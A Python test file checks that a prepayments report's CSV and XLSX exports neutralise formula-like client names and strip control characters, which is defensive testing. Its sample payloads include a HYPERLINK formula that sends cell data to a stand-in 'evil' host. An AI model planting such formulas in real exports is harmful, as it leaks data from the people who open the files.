"""The prepayments report's CSV and XLSX with client names a stranger could plant through
online booking: formulas open inert, control characters no longer break the workbook."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.factories_prepayments import (
    enable_prepayment,
    make_booking,
    make_booking_type,
    make_client,
    make_visit,
)

FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-2+3", "@SUM(A1)"]
UKRAINIAN = "Олена Коваленко-Шевчук"


@pytest.fixture
def ready(org, branch):
    enable_prepayment(org)
    return make_booking_type(org, "fixed", 20_000)


def _book(org, branch, name: str):
    return make_booking(org, branch, visit=make_visit(org, branch, client=make_client(org, name)))


def _export(staff_client, fmt: str):
    response = staff_client.get("/prepayments/", {"export": fmt})
    assert response.status_code == 200
    return response


def test_client_names_that_look_like_formulas_export_inert(staff_client, org, branch, ready):
    for name in [*FORMULAS, UKRAINIAN]:
        _book(org, branch, name)

    text = _export(staff_client, "csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    client = rows[0].index("Клієнт")
    names = {row[client] for row in rows[1:]}
    assert names == {*(f"'{n}" for n in FORMULAS), UKRAINIAN}

    sheet = load_workbook(io.BytesIO(_export(staff_client, "xlsx").content)).active
    header = [c.value for c in sheet[1]]
    body = list(sheet.iter_rows(min_row=2))
    assert all(c.data_type != "f" for row in body for c in row)
    cells = {row[header.index("Клієнт")].value: row[header.index("Клієнт")] for row in body}
    assert set(cells) == {*FORMULAS, UKRAINIAN}
    assert all(cells[n].data_type == "s" and cells[n].quotePrefix for n in FORMULAS)
    amounts = [row[header.index("Сума")] for row in body]
    assert all(a.data_type == "n" and a.value == Decimal(200) for a in amounts)


def test_a_control_character_in_a_name_does_not_break_the_xlsx(staff_client, org, branch, ready):
    _book(org, branch, "Ган\x0bна Ко\x1bваль")
    _book(org, branch, UKRAINIAN)

    sheet = load_workbook(io.BytesIO(_export(staff_client, "xlsx").content)).active
    header = [c.value for c in sheet[1]]
    names = {row[header.index("Клієнт")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert names == {"Ганна Коваль", UKRAINIAN}
    text = _export(staff_client, "csv").content.decode("utf-8-sig")
    assert "Ганна Коваль" in text and "\x0b" not in text and "\x1b" not in text
